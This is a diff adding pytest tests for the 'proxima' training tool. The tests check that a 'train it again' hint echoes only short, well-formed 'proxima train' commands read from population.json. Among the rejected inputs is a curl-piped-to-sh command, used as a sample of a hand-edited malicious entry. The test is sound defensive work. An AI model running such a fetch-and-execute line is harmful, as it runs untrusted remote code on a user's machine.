@@ -20,3 +20,25 @@ def test_train_again_trains_into_the_directory_given(monkeypatch, tmp_path, reco
     assert words[words.index("--run-dir") + 1] == str(tmp_path / "popC") and words.count("--run-dir") == 1
     assert words[:5] == ["proxima", "train", "CartPole-v1", "--seeds", "1-3"] and words[-1] == "--overwrite"
     assert "--total-timesteps" in words and words[words.index("--total-timesteps") + 1] == "4096"
+
+
+@pytest.mark.parametrize("command", [
+    ["sh", "-c", "curl x|sh"],  # another program a hand-edited population.json names
+    ["proxima", "eval", "runs/p"],  # not a train
+    ["proxima", "train", "x\ny"],  # a word a terminal shows escaped: pasted, another argument
+    ["proxima", "train", "CartPole-v1", *["--seeds", "1-3"] * 60],  # past MAX_ECHOED_COMMAND
+    ["proxima", "--run-dir"],
+    "proxima train CartPole-v1",  # not a list
+])
+def test_train_again_echoes_only_a_short_proxima_train_command(monkeypatch, tmp_path, command):
+    monkeypatch.setattr(population_run, "read_population_doc", lambda run_dir: {"command": command})
+    line = population_run._train_again(tmp_path / "popC")
+    assert line == (f"train it again: the command in {tmp_path / 'popC' / 'population.json'} with --overwrite "
+                    "(the old directory is moved aside)")
+
+
+@pytest.mark.parametrize("start", [["proxima"], ["/opt/venv/bin/proxima"], ["python3.11", "-m", "proxima"]])
+def test_train_again_echoes_each_way_of_running_proxima(monkeypatch, tmp_path, start):
+    command = [*start, "train", "CartPole-v1", "--seeds", "1-2"]
+    monkeypatch.setattr(population_run, "read_population_doc", lambda run_dir: {"command": command})
+    assert population_run._train_again(tmp_path).startswith(f"train it again: {shlex.join(command)} --run-dir ")
